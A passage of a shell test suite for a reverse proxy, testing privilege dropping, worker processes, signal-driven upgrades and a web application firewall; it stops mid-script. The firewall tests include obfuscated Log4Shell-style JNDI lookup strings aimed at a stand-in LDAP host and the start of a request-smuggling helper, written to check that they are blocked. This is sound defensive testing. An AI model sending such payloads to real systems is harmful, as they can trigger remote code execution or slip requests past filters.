	as_root
	chmod 711 "$tmp"
	mkdir ours
	chown nobody ours
	start_as -q -l unix:ours/front -P ours/pid -U nobody -r /=200:x
	is "$(get --unix-socket ours/front http://h/)" x
	is "$(cat ours/pid)" "$pid"
	stop
	is "$(ls ours)" '' 'what remains'
	is "$(cat "err.$n")" ''
}

test_U_changes_the_root_directory() {
	as_root
	! sanitized || export ASAN_OPTIONS="${ASAN_OPTIONS-}:detect_leaks=0"  # which wants /proc
	mkdir jail
	start -r /=200:behind
	inner=$port
	start_as -l 0 -o log -U "nobody,chroot=$PWD/jail" -w 2 -u bob:secret -r /=200:x -r "/up=:$inner" -r "/name=http://localhost:$inner"
	is "$(get -u bob:secret "$url" "$url/up")" xbehind
	for p in $(tree "$pid"); do
		is "$(readlink "/proc/$p/root")" "$PWD/jail" "the root of process $p"
		is "$(readlink "/proc/$p/cwd")" "$PWD/jail" "the directory of process $p"
	done
	is "$(ids "$pid" | cut -d' ' -f2)" "$(id -g nobody)"
	logged 2
}

test_U_and_D_make_a_daemon_of_another_user() {
	as_root
	chmod 711 "$tmp"
	mkdir ours
	chown nobody ours
	daemon=$("$PROXY" -D -P ours/pid -o ours/log -w 2 -U nobody -l 0 -r /=200:hello)
	is $? 0 'exit status'
	pid=$(cat ours/pid)
	helpers="$helpers $pid"
	is "$(get "$daemon")" hello
	like "$(ids "$pid")" "^Gid $(id -g nobody) .*Uid $(id -u nobody) $(id -u nobody) $(id -u nobody) $(id -u nobody) \$"
	wait_for lines_in 1 ours/log || fail 'nothing is logged'
	kill -TERM "$pid"
	wait_for test ! -e ours/pid || fail 'the pidfile stays'
}

test_U_that_cannot_be_is_told() {
	as_root
	need setpriv
	for who in nosuchuser nobody:nosuchgroup "nobody,chroot=/nonexistent" "nobody,chroot=/etc/passwd"; do
		try -q -l 0 -r /=200 -U "$who"
		is "$status" 1 "exit status with -U $who; $err; it"
		is "$out" ''
		like "$err" "^proxy: .*${who#nobody[,:]}" "the message of -U $who"
	done
	chmod 711 "$tmp"
	cp "$PROXY" copy
	setpriv --reuid=65534 --regid=65534 --clear-groups ./copy -q -l 0 -r /=200 -U nobody >copy.out 2>copy.err
	is $? 1 'exit status without root'
	like "$(cat copy.err)" '^proxy: .*-U nobody'
	is "$(cat copy.out)" ''
}

test_it_runs_as_any_user_on_a_root_that_is_read_only() {
	as_root
	need unshare setpriv
	chmod 711 "$tmp"
	cp "$PROXY" copy
	PROXY=$PWD/copy
	printf 'mount -o remount,bind,ro / && exec setpriv --reuid=4242 --regid=4242 --clear-groups env -i "$@"\n' >bare.sh
	unshare -m sh bare.sh true 2>bare.err || skip "no such mount here: $(cat bare.err)"
	start -r /=200:behind
	inner=$port
	echo /denied >rules
	echo "bob:$(openssl passwd -apr1 secret 2>/dev/null)" >logins
	wrap="unshare -m sh $PWD/bare.sh"
	start -w 2 -d @rules -r 200:x -r "/up=http://localhost:$inner" -r /file=file:rules
	is "$(get "$url" "$url/up" "$url/file")" "xbehind/denied"
	answers 403 "$url/denied"
	is "$(ids "$pid")" 'Gid 4242 4242 4242 4242 Uid 4242 4242 4242 4242 '
	kill -HUP "$pid"
	answers 200 "$url"
	need openssl
	start -u @logins
	is "$(code -x "$url" -U bob:secret "http://127.0.0.1:$inner/")" 200
	is "$(code --socks5 "127.0.0.1:$port" -U bob:secret "http://127.0.0.1:$inner/")" 200
}

test_process_1_with_loopback_listeners_only_gets_a_hint() {
	[ "$(id -u)" = 0 ] && unshare -pf true 2>/dev/null || skip 'needs root and unshare'
	: >first.out
	unshare -pf "$PROXY" -q -n 1 -l 0 -r /=200:x >first.out 2>first.err &
	first=$!
	wait_for test -s first.out || fail "no URL: $(cat first.err)"
	is "$(get "$(cat first.out)")" x
	wait $first
	is $? 0 'exit status'
	is "$(wc -l <first.err | tr -d ' ')" 1 "number of hints in $(cat first.err): it"
	like "$(cat first.err)" '^proxy: .*-l :' 'the hint'
	: >first.out
	unshare -pf "$PROXY" -q -n 1 -l :0 -r /=200:x >first.out 2>first.err &
	first=$!
	wait_for test -s first.out || fail "no URL: $(cat first.err)"
	is "$(get "$(cat first.out)")" x
	wait $first
	is "$(cat first.err)" '' 'what is said with every interface'
}

# ---- workers: -w ----

start_workers() {  # two, or as $workers says; the pid of who served each request goes to the file log
	start_as -l 0 -o log --log-format %P -w "${workers:-2}" "$@"
}
distinct() { sort -u log | wc -l | tr -d ' '; }
all_have_served() {  # for wait_for: after more requests, $1 processes are in the log
	code --no-keepalive "$url" "$url" >codes
	[ "$(distinct)" -ge "$1" ]
}
load() { "$peer" load "$port" "$1" "$2" 'GET /x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n'; }  # CLIENTS REQUESTS
all_answer() {  # for wait_for: 20 connections in a row get this status
	[ "$(load 4 20)" = "$1:20 broken:0" ]
}

test_workers_share_the_listeners_and_the_work() {
	start_workers -r /=200:x
	is "$(wc -l <"out.$n" | tr -d ' ')" 1 'number of URL lines'
	wait_for all_have_served 2 || fail "only one serves: $(sort log | uniq -c)"
	is "$(load 50 2000)" '200:2000 broken:0'
	stop
	is "$(distinct)" 2 'number of processes that served'
	workers=1
	rm log
	start_workers -r /=200:x
	is "$(load 50 500)" '200:500 broken:0'
	stop
	is "$(distinct)" 1 'number of processes that served'
	start_as -q -w 2 -l unix:front -r /=200:unix
	for i in 1 2 3 4 5 6; do is "$(get --unix-socket front http://h/)" unix; done
}

test_workers_share_several_listeners_at_one_port() {
	free=$("$peer" port)
	start_as -q -w 2 -l "127.0.0.1:$free" -l "127.0.0.2:$free" -r /=200:both
	for u in $urls; do is "$(get "$u")" both "answer of $u"; done
	free=$("$peer" port)
	try -q -w 2 -l ":$free" -l "127.0.0.1:$free" -r /=200
	is "$status" 1
	like "$err" "^proxy: .*127\.0\.0\.1:$free: Address (already )?in use"
}

test_as_many_workers_as_processors_is_auto() {
	need getconf
	cpus=$(nproc 2>/dev/null || getconf _NPROCESSORS_ONLN)
	workers=auto
	start_workers -r /=200:x
	wait_for all_have_served "$cpus" || fail "$(distinct) serve on $cpus processors"
	is "$(load 50 2000)" '200:2000 broken:0'
	stop
	is "$(distinct)" "$cpus" 'number of processes that served'
}

test_a_worker_that_is_killed_is_replaced_within_a_second_and_reported() {
	start_workers -r /=200:x
	wait_for all_have_served 2 || fail "only one serves: $(sort log | uniq -c)"
	may_say '^proxy: .*worker'
	victim=$(tail -n 1 log)
	[ "$victim" != "$pid" ] || fail 'the supervisor serves as well'
	kill -KILL "$victim"
	began=$(now)
	wait_for all_have_served 3 || fail 'it is not replaced'
	[ $(($(now) - began)) -le 2 ] || fail "it was replaced after $(($(now) - began)) s"
	is "$(load 20 500)" '200:500 broken:0'
	grep -q "^proxy: .*$victim" "err.$n" || fail "it is not reported: $(cat "err.$n")"
}

test_a_worker_that_is_killed_loses_only_its_own_connections() {
	need_proc
	start_workers -r /=200:x
	may_say '^proxy: .*worker'
	clients=''
	for i in 0 1 2 3 4 5 6 7 8 9; do
		talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' "touch:first.$i" wait:go \
			'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' "touch:second.$i" >"got.$i" 2>>complaints &
		clients="$clients $!"
	done
	logged 10
	for i in 0 1 2 3 4 5 6 7 8 9; do wait_for test -f "first.$i" || fail 'an answer did not come'; done
	victim=$(sed -n 1p log)
	others=$(grep -vcx "$victim" log)
	kill -KILL "$victim"
	gone_or_dead() { gone "$1" || grep -q '^State:.Z' "/proc/$1/status"; }
	wait_for gone_or_dead "$victim"
	: >go
	for client in $clients; do wait "$client"; done
	: >second.none
	is "$(($(ls second.* | wc -l) - 1))" "$others" 'number of connections that are still served'
	requests=${slow:+100000}
	: "${requests:=8000}"
	"$peer" load "$port" 20 "$requests" 'GET /x HTTP/1.1\r\nHost: h\r\n\r\n' >result &
	load=$!
	victim=$(tail -n 1 log)
	busy() { [ "$(ticks_of "$victim")" -gt 1 ] || gone "$load"; }
	wait_for busy
	kill -KILL "$victim"
	wait $load
	broken=$(sed 's/.*broken://' result)
	[ "$broken" -le 40 ] || fail "of 20 connections $broken requests were broken off: $(cat result)"
	like "$(cat result)" "^200:$((requests - broken)) broken:" 'all others are answered; the tally'
}

test_a_worker_that_is_killed_at_the_end_does_not_change_the_status() {
	need_proc
	may_say '^proxy: worker '
	for i in 1 2 3 4 5 6 7 8 9 10; do
		start -w 2 -r /=200:x
		is "$(load 4 20)" '200:20 broken:0'
		kill -KILL "$(cat "/proc/$pid/task/$pid/children" | tr ' ' '\n' | sed -n "$((i % 2 + 1))p")"
		kill -TERM "$pid"
		exits 0
	done
}

test_n_counts_over_all_workers() {
	start_workers -n 30 -r /=200:x
	is "$(load 4 29)" '200:29 broken:0'
	"$peer" nap 200
	gone "$pid" && fail 'it ended too early'
	is "$(load 1 1)" '200:1 broken:0'
	exits 0
	is "$(wc -l <log | tr -d ' ')" 30 'number of requests logged'
}

test_expect_counts_over_all_workers() {
	start_workers --expect 40,/x,status:200 -r /=200:x
	is "$(load 4 40)" '200:40 broken:0'
	is "$(distinct)" 2 'number of processes that served'
	stop
	may_say '^proxy: --expect'
	start_workers --expect 41,/x,status:200 -r /=200:x
	is "$(load 4 40)" '200:40 broken:0'
	kill -TERM "$pid"
	exits 4
	is "$(cat "err.$n")" 'proxy: --expect 41,/x,status:200: 40 matched'
}

test_limits_count_over_all_workers() {
	start_workers --max connections=8 -r /=200:x
	wait_for all_have_served 2 || fail 'only one serves'
	"$peer" nap 100
	helper hold "$port" 8
	is "$(load 1 20)" '503:20 broken:0'
	may_say '^proxy: .*worker'
	for p in $(sort -u log); do kill -KILL "$p"; done
	wait_for all_answer 200 || fail 'killed workers keep their share of the limit'
	kill "$helper"
	helper hold "$port" 8
	is "$(load 1 20)" '503:20 broken:0' 'what new workers answer; it'
	kill "$helper"
	wait_for all_answer 200 || fail 'it does not recover'
}

test_the_limit_of_a_client_counts_over_all_workers() {
	[ "$(uname)" = Linux ] || skip "127.0.0.2 is an address of this machine on Linux"
	start_workers --max per-client=6 -r /=200:x
	helper hold "$port" 6
	like "$(load 1 20)" '^(429|503):20 broken:0$' 'what the next connections get'
	is "$(code --interface 127.0.0.2 "$url")" 200 'status of another client'
	kill "$helper"
	wait_for all_answer 200 || fail 'it does not recover'
}

test_n_idle_looks_at_all_workers() {
	start_workers -n idle=1s -r /=200:x
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' nap:600 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' \
		nap:600 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' nap:600 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' >got ||
		fail 'it ended while a worker had something to do'
	exits 0
}

test_signals_reach_all_workers() {
	need_proc
	echo /none >rules
	start_workers -d @rules -r /=200:x
	wait_for all_have_served 2 || fail 'only one serves'
	echo /x >rules
	kill -HUP "$pid"
	wait_for all_answer 403 || fail 'not all have read the rules again'
	mv log log.old
	kill -HUP "$pid"
	wait_for test -f log || fail 'no new log'
	left() { before=$(wc -l <log.old); load 4 20 >result; [ "$(wc -l <log.old)" = "$before" ]; }
	wait_for left || fail 'a worker writes to the old log'
	origin head touch:begun wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nwhole'
	start -w 2 -r ":$origin"
	get "$url" >got &
	client=$!
	wait_for test -f begun || fail 'the request did not arrive'
	all=$(tree "$pid")
	kill -TERM "$pid"
	closed() { ! "$peer" talk "$port" 2>/dev/null; }
	wait_for closed || fail 'it still accepts'
	: >go
	wait $client
	is "$(cat got)" whole
	exits 0
	for p in $all; do wait_for gone "$p" || fail "process $p remains"; done
}

test_workers_end_with_the_process_that_started_them() {
	need_proc
	start -w 2 -r /=200:x
	answers 200 "$url"
	all=$(tree "$pid")
	[ "$(echo "$all" | wc -l)" -ge 3 ] || fail "these processes: $all"
	kill -KILL "$pid"
	wait "$pid"
	pids=${pids% "$pid"}
	for p in $all; do wait_for gone "$p" || fail "process $p remains after a kill"; done
	daemon=$("$PROXY" -q -D -P pidfile -w 2 -l 0 -r /=200:hello)
	helpers="$helpers $(cat pidfile)"
	is "$(get "$daemon")" hello
	all=$(tree "$(cat pidfile)")
	kill -TERM "$(cat pidfile)"
	for p in $all; do wait_for gone "$p" || fail "process $p of a daemon remains"; done
}

test_workers_write_whole_lines_to_one_log() {
	start_logged --log-format combined -w 2 -r /=200:x
	path=$(head -c 1500 /dev/zero | tr '\0' x)
	is "$("$peer" load "$port" 40 4000 "GET /$path HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")" '200:4000 broken:0'
	stop
	is "$(wc -l <log | tr -d ' ')" 4000 'number of lines'
	is "$(grep -Ec '^127\.0\.0\.1 - - \[[^]]*\] "GET /x+ HTTP/1\.1" 200 1 "-" "-"$' log)" 4000 'number of whole lines'
	is "$(awk '{ print length }' log | sort -u | wc -l | tr -d ' ')" 1 'number of lengths of lines'
}

test_the_first_process_rests_while_one_worker_drains() {
	need_proc
	origin head nap:2500 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' again
	start -w 2 -r ":$origin"
	get "$url" >last &
	asking=$!
	wait_for test -s "got$m.1" || fail 'the request does not come'
	kill -TERM "$pid"
	"$peer" nap 300
	before=$(ticks_of "$pid")
	"$peer" nap 1500
	[ $(($(ticks_of "$pid") - before)) -lt 20 ] || fail "it worked for $(($(ticks_of "$pid") - before)) ticks while it waited"
	wait "$asking"
	is "$(cat last)" ok
	exits 0
}

test_a_stuck_worker_does_not_keep_the_first_process_from_its_signals() {
	need_proc
	start -w 2 -r /=200 -t drain=1s
	may_say '^proxy: (status:|worker)'
	stuck=$(tree "$pid" | sed -n 2p)
	kill -STOP "$stuck"
	for i in 1 2 3 4 5 6 7 8 9 10; do
		for k in 1 2 3 4 5 6 7 8 9 10; do kill -HUP "$pid" "$pid" "$pid" "$pid" "$pid"; done
	done
	kill -USR1 "$pid"
	wait_for grep -q status: "err.$n" || fail 'no status'
	kill -TERM "$pid"
	exits 0
}

test_of_two_that_start_at_once_with_workers_one_listens() {
	for i in 1 2 3 4 5; do
		free=$("$peer" port)
		for name in twin.1 twin.2 twin.err.1 twin.err.2; do : >$name; done  # what was said before is gone
		for k in 1 2; do
			"$PROXY" -q -w 2 -l "$free" -r /=200 >"twin.$k" 2>"twin.err.$k" </dev/null &
			twins="$twins $!"
		done
		helpers="$helpers $twins"
		both_spoke() { [ "$(cat twin.1 twin.2 twin.err.1 twin.err.2 | wc -l)" -ge 2 ]; }
		wait_for both_spoke || fail "one says nothing: $(cat twin.*)"
		is "$(cat twin.1 twin.2 | wc -l | tr -d ' ')" 1 'how many listen'
		grep -q 'Address .*in use' twin.err.1 twin.err.2 || fail "the other says: $(cat twin.err.*)"
		kill $twins 2>/dev/null
		wait $twins
		twins=
	done
}

# ---- nothing is lost: HUP, USR2, TERM, kills ----

steadily() {  # PORT [CLIENTS]: load on kept connections and fresh ones, until the file stop is there
	rm -f stop
	"$peer" load "$1" "${2:-4}" 0 'GET /x HTTP/1.1\r\nHost: h\r\n\r\n' >kept & kept=$!
	"$peer" load "$1" "${2:-4}" 0 'GET /x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n' >fresh & fresh=$!
	helpers="$helpers $kept $fresh"
}
nothing_was_lost() {
	: >stop
	wait $kept
	wait $fresh
	for kind in kept fresh; do like "$(cat $kind)" "${1:-^200:[0-9]{2,\} broken:0\$}" "the tally of $kind connections"; done
}
started_anew() { [ "$(grep -c '^proxy: USR2: started anew' "err.$n")" -ge "$1" ]; }
upgrade() {  # N: USR2 for the Nth time
	kill -USR2 "$pid"
	wait_for started_anew "$1" || fail "no new program: $(cat "err.$n")"
}
alone() { [ "$(tree "$pid" | wc -l)" = "$1" ]; }  # it has no more processes than this

test_hup_loses_nothing() {
	need_proc
	three
	echo GET >rules
	start -w 2 -a @rules -r ":$a" -r ":$b"
	steadily "$port"
	"$peer" nap 100
	before="$(tree "$pid" | wc -l) $(descriptors_of "$pid")"
	for i in 1 2 3 4 5 6; do kill -HUP "$pid"; "$peer" nap 60; done
	nothing_was_lost
	as_before() { [ "$(tree "$pid" | wc -l) $(descriptors_of "$pid")" = "$before" ]; }
	wait_for as_before || fail "processes and descriptors: $before, then $(tree "$pid" | wc -l) $(descriptors_of "$pid")"
}

test_usr2_loses_nothing_and_leaks_nothing() {
	need_proc
	three
	cp "$PROXY" program
	PROXY=$PWD/program start -w 2 -r ":$a" -r ":$b" --health tcp,interval=100ms -A 0 -P pidfile
	may_say '^proxy: USR2: started anew, version ' '^proxy: member .* is down: connect-failed$'
	steadily "$port"
	for i in 1 2 ${slow:+3 4 5 6 7 8 9 10}; do
		cp "$PROXY" next && mv next program
		upgrade "$i"
	done
	nothing_was_lost
	is "$(cat pidfile)" "$pid" 'the pidfile'
	wait_for alone 3 || fail "the old ones do not end: $(tree "$pid")"
	before=$(descriptors_of "$pid") memory=$(memory_of "$pid")
	upgrade $((i + 1))
	wait_for alone 3 || fail "the old ones do not end: $(tree "$pid")"
	is "$(descriptors_of "$pid")" "$before" 'descriptors of the first process'
	sanitized || [ "$(memory_of "$pid")" -le $((memory + 1000)) ] || fail "memory: $memory KiB, then $(memory_of "$pid")"
	is "$(wc -l <"out.$n" | tr -d ' ')" 2 'URL lines'
	stop
	[ ! -f pidfile ] || fail 'the pidfile is still there'
}

test_usr2_lets_what_is_under_way_finish() {
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nlate'
	three
	start_as -q -f -l 0 -r ":$a" -r "/held=:$origin" -t drain=9s
	may_say '^proxy: USR2: started anew'
	get "$url/held" >late & held=$!
	wait_for test -f "got$m.1" || fail 'the server is not asked'
	ask='send:GET / HTTP/1.1\r\nHost: h\r\n\r\n'
	talk "$port" "$ask" 'read:\r\n\r\na' touch:asked wait:anew "$ask" 'read:\r\n\r\na' rest >kept & kept=$!
	talk "$port" "send:CONNECT 127.0.0.1:$b HTTP/1.1\r\nHost: h\r\n\r\n" 'read:\r\n\r\n' touch:tunnel wait:anew "$ask" 'read:\r\n\r\nb' >tunnel & tunnel=$!
	helpers="$helpers $kept $tunnel"
	wait_for test -f asked && wait_for test -f tunnel || fail "$(cat kept tunnel)"
	upgrade 1
	is "$(get "$url")" a 'what the new one answers'
	: >anew
	wait $kept || fail "a kept connection: $(cat kept)"
	is "$(tr -d '\r' <kept | grep -c 'HTTP/1.1 200 OK$')" 2 'answers on a kept connection'
	is "$(grep -ci '^connection: close' kept)" 1 'how often it says that it closes'
	wait $tunnel || fail "a tunnel: $(cat tunnel)"
	: >go
	wait $held
	is "$(cat late)" late
	need_proc
	wait_for alone 2 || fail "the old one does not end: $(tree "$pid")"
}

test_usr2_closes_what_is_idle_when_the_time_is_over() {
	need_proc
	start -r /=200:x -t drain=500ms
	may_say '^proxy: USR2: started anew'
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:\r\n\r\nx' touch:asked rest >kept & kept=$!
	wait_for test -f asked
	upgrade 1
	began=$(now)
	wait $kept || fail 'it is not closed'
	[ $(($(now) - began)) -le 5 ] || fail "it is closed after $(($(now) - began)) s"
	wait_for alone 2 || fail "the old one does not end: $(tree "$pid")"
}

test_signals_after_usr2_hold_too() {
	need_proc
	three
	start -w 2 -r ":$a"
	may_say '^proxy: USR2: started anew'
	steadily "$port"
	"$peer" nap 100
	kill -USR2 "$pid"; kill -HUP "$pid"; kill -USR2 "$pid"; kill -HUP "$pid"
	wait_for started_anew 1 || fail "$(cat "err.$n")"
	kill -HUP "$pid"
	kill -USR2 "$pid"
	kill -TERM "$pid"
	exits 0
	nothing_was_lost '^200:[0-9]+ broken:0( refused:[0-9]+)?$'
}

test_usr2_keeps_the_cache_for_itself() {
	start -r /=200:x -R 'Cache-Control: max-age=60'
	start -w 2 -C cache -r ":$port"
	may_say '^proxy: USR2: started anew'
	get "$url/[1-20]" >stored
	upgrade 1
	answers 200 "$url/1"
	has "$(header Cache-Status)" '; hit'
	answers 200 "$url/new"
	answers 200 "$url/new"
	has "$(header Cache-Status)" '; hit'
	try -q -l 0 -C cache -r ":$port"
	is "$status" 1 'exit status of another one with the same cache'
}

test_usr2_starts_the_file_that_has_the_name_now() {
	cp "$PROXY" program
	PROXY=$PWD/program start -r /=200:x
	printf '#!/bin/sh\nexit 7\n' >other && chmod +x other && mv other program
	may_say 'program: ' '^proxy: USR2: .*program: ended with status (7|126|127); this one goes on$' '^proxy: USR2: started anew'
	kill -USR2 "$pid"
	wait_for grep -q 'goes on$' "err.$n" || fail 'it does not say what was wrong'
	is "$(get "$url")" x
	rm program
	kill -USR2 "$pid"
	twice() { [ "$(grep -c 'goes on$' "err.$n")" = 2 ]; }
	wait_for twice || fail 'it does not say that there is none'
	is "$(get "$url")" x
	cp "$PROXY" program
	upgrade 1
	is "$(get "$url")" x
	mkdir one two
	cp "$PROXY" one/program
	cp "$PROXY" two/program
	ln -s one/program link
	PROXY=$PWD/link start -r /=200:x
	ln -sf two/program link
	upgrade 1
	need_proc
	is "$(readlink "/proc/$pid/exe")" "$PWD/two/program" 'what a link leads to'
}

test_usr2_reads_files_of_arguments_anew_and_refuses_bad_ones() {
	other=$("$peer" port)
	echo '-r /=200:old' >arguments
	start_as -q -l 0 -u bob:secret @arguments
	may_say '^proxy: USR2: started anew' '^proxy: -r 200' '^proxy: USR2: .* ended with status 2; this one goes on$'
	is "$(get -u bob:secret "$url")" old
	echo '-r 200,nonsense' >arguments
	kill -USR2 "$pid"
	wait_for grep -q 'goes on$' "err.$n" || fail 'it does not say what was wrong'
	is "$(get -u bob:secret "$url")" old
	printf '%s\n' '-r /=200:new' "-l $other" >arguments
	upgrade 1
	is "$(get -u bob:secret "$url")" new
	wait_for now_answers 401 "http://127.0.0.1:$other" || fail 'a new listener is not there'
	need_proc
	hasnt "$(tr '\0' ' ' <"/proc/$pid/cmdline")" secret 'the arguments seen by ps'
	hasnt "$(tr '\0' ' ' <"/proc/$pid/environ")" secret 'the environment'
}

test_usr2_lets_go_of_listeners_that_are_no_longer_wanted_and_takes_them_up_again() {
	need_proc
	other=$("$peer" port)
	: >arguments
	start_as -q -w 2 -l 0 -r /=200:x @arguments
	may_say '^proxy: USR2: started anew'
	for times in 1 3; do
		printf '%s\n' "-l $other" '-l unix:more.sock' >arguments
		upgrade $times
		wait_for now_answers 200 "http://127.0.0.1:$other"
		is "$(get --unix-socket more.sock http://h/)" x
		: >arguments
		upgrade $((times + 1))
		wait_for alone 3
		is "$(code "http://127.0.0.1:$other")" 000 'what an argument file dropped'
		[ ! -e more.sock ] || fail 'its socket is still there'
	done
	is "$(get "$url")" x
}

test_usr2_keeps_sockets_counts_and_what_is_known_of_members() {
	need jq
	dead=$("$peer" port)
	start_as -q -l unix:front.sock -l 0 -A 0 -n 7 --expect 7,GET -r ":$dead" -r 200:b -C cache --health tcp,interval=30s,fall=1
	pid_before=$pid admin=$(sed -n 3p "out.$n") url=$(sed -n 2p "out.$n")
	may_say '^proxy: USR2: started anew' '^proxy: member .* is down'
	state_is_down() { state_is 0 down; }
	wait_for state_is_down
	for i in 1 2; do is "$(get --unix-socket front.sock http://h/)" b; done
	upgrade 1
	is "$pid" "$pid_before"
	is "$(status_of 0 state)" down 'what is known of the dead one'
	kill -HUP "$pid"
	"$peer" nap 100
	is "$(status_of 0 state)" down 'and after HUP'
	for i in 3 4 5; do is "$(get "$url")" b; done
	upgrade 2
	is "$(get --unix-socket front.sock http://h/)" b
	is "$(get "$url")" b
	exits 0
	[ ! -e front.sock ] || fail 'the socket is still there'
}

test_usr2_counts_what_those_before_still_answer() {
	origin head wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' again
	may_say '^proxy: USR2: started anew'
	for counted in '--expect 1,/' '-n 1'; do
		rm -f go
		start -r ":$origin" $counted
		get "$url" >answer & client=$!
		in_flight() { [ "$(ls got"$m".* 2>/dev/null | wc -l)" -ge 1 ]; }
		wait_for in_flight || fail 'it does not come'
		rm -f got"$m".*
		upgrade 1
		: >go
		wait $client
		is "$(cat answer)" ok
		[ "$counted" = '-n 1' ] || kill -TERM "$pid"
		exits 0
	done
}

test_usr2_takes_over_an_address_that_is_written_otherwise() {
	port=$("$peer" port)
	echo "-l $port" >arguments
	start_as -q -w 2 -r /=200:x @arguments
	may_say '^proxy: USR2: started anew'
	k=0
	for other in "127.0.0.1:$port" "http://localhost:$port" "127.0.0.2:$port" "$port"; do
		k=$((k + 1))
		echo "-l $other" >arguments
		upgrade $k
		host=${other#http://} host=${host%:*}
		[ "$other" = "$port" ] && host=127.0.0.1
		wait_for now_answers 200 "http://$host:$port/" || fail "it is not at $other"
	done
}

test_usr2_keeps_sockets_that_systemd_passed() {
	wrap="$wrap $peer give 1"
	start_as -q -l fd:3 -r /=200:x
	may_say '^proxy: USR2: started anew'
	upgrade 1
	is "$(get "$url")" x
	wrap='' listeners=1
	n=$((n + 1))
	"$peer" give 1 "$PROXY" -q -r /=200:y >"out.$n" 2>"err.$n" </dev/null &
	pid=$! pids="$pids $!"
	wait_for said_urls
	url=$(cat "out.$n")
	upgrade 1
	is "$(get "$url")" y
}

test_usr2_works_in_the_background_and_as_process_1() {
	need_proc
	three
	"$PROXY" -q -D -P pidfile -o log -l 0 -w 2 -r ":$a" >url
	url=$(cat url)
	steadily "${url##*:}" 2
	"$peer" nap 100
	kill -USR2 "$(cat pidfile)"
	wait_for grep -q 'started anew' log || fail "$(cat log)"
	nothing_was_lost
	is "$(get "$url")" a
	kill -TERM "$(cat pidfile)"
	[ "$(id -u)" = 0 ] && unshare --pid --fork --mount-proc true 2>/dev/null || skip 'needs root and unshare'
	unshare --pid --fork --mount-proc --kill-child "$PROXY" -q -l :0 -w 2 -r ":$a" >url1 2>err1 </dev/null &
	helpers="$helpers $!"
	wait_for lines_in 1 url1
	inside=$(tree $! | sed -n 2p) url=$(cat url1)
	steadily "${url##*:}" 2
	"$peer" nap 100
	for i in 1 2 3; do
		kill -USR2 "$inside"
		anew() { [ "$(grep -c 'started anew' err1)" = $i ]; }
		wait_for anew || fail "$(cat err1)"
	done
	kill -HUP "$inside"
	nothing_was_lost
	as_many() { [ "$(tree "$inside" | wc -l)" = 3 ]; }
	wait_for as_many || fail "processes: $(tree "$inside")"
	is "$(grep -vc 'started anew' err1)" 0 'other lines on stderr'
}

test_term_loses_nothing_that_was_accepted() {
	need_proc
	three
	start -w 2 -r ":$a"
	steadily "$port"
	"$peer" nap 200
	stop
	nothing_was_lost '^200:[0-9]+ broken:0( refused:[0-9]+)?$'
}

test_a_member_killed_under_load_fails_no_request_that_may_be_sent_again() {
	three
	start -r /=200:d
	victim=$pid
	start -r ":$a" -r ":$port" -r ":$b" --health tcp,interval=50ms,fall=1
	may_say '^proxy: member .* is down' '^proxy: worker [0-9]*: ended by signal 9'
	steadily "$port"
	"$peer" nap 100
	kill -KILL "$(tree $victim | tail -n 1)" $victim
	pids=$(echo "$pids" | sed "s/ $victim\>//")
	wait_for grep -q 'is down' "err.$n" || fail 'nobody notices'
	"$peer" nap 100
	nothing_was_lost
}

test_no_request_fails_while_members_are_started_again_one_by_one() {
	members=''
	for i in 1 2 3; do
		start -r /=200:x
		members="$members $port:$pid"
	done
	set -- $members
	start -r ":${1%:*}" -r ":${2%:*}" -r ":${3%:*}"
	front=$port
	steadily "$port"
	for member; do
		"$peer" nap 100
		kill -TERM "${member#*:}" && wait "${member#*:}"
		pids=$(echo "$pids" | sed "s/ ${member#*:}\>//")
		start_as -q -l "${member%:*}" -r /=200:x
		wait_for now_answers 200 "http://127.0.0.1:$front"
	done
	nothing_was_lost
}

test_workers_killed_under_load_lose_only_what_was_theirs() {
	need_proc
	three
	start -w 2 -r ":$a"
	may_say '^proxy: worker [0-9]*: ended by signal 9; another is started$'
	steadily "$port"
	for i in 1 2 3 ${slow:+4 5 6 7 8 9 10}; do
		"$peer" nap 100
		kill -KILL "$(tree "$pid" | sed -n 2p)"
	done
	"$peer" nap 100
	nothing_was_lost '^200:[0-9]{3,} broken:[0-9]{1,2}$'
	is "$(load 4 40)" '200:40 broken:0' 'afterwards'
}

# ---- attacks: --waf ----

# What is sent, and how much of it has to be refused, is a table, waf_cases, at the end of this file. WAF_TABLE=FILE shows it.
test_attacks_are_refused_and_what_is_like_them_is_not() {
	need python3
	start -r /=200:x --waf block
	python3 "$raw/wafcase.py" "$port" "$raw/waf.txt" ${WAF_TABLE:+all} >rates 2>&1
	status=$?
	[ -z "${WAF_TABLE-}" ] || cat rates >"$WAF_TABLE"
	[ $status = 0 ] || fail "$(cat rates)"
}

test_a_lookup_of_a_date_that_is_empty_is_read() {
	start -r /=200:x --waf block
	for value in "\${date:'}" "\${\${date:'}jndi:x}" "\${date:}" "x\${date:'}}}" "\${date:''}"; do
		like "$(code -g "$url/?a=$value")" '^(200|403)$' "status for $value"
	done
	is "$(code -g "$url/?a=\${\${date:'j'}ndi:ldap://h/}")" 403
}

test_a_request_behind_content_that_is_held_is_read_right() {
	need python3
	start -r echo
	start -r "$url" --waf block
	cat >two.py <<-'END'
	import socket, sys
	inner = b'GET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n'
	c = socket.create_connection(('127.0.0.1', int(sys.argv[1])), 10)
	def post(path, n): return b'POST %s HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n' % (path, n)
	def answer():
	    got = b''
	    while b'\r\n\r\n' not in got or got.count(b'}') == 0:
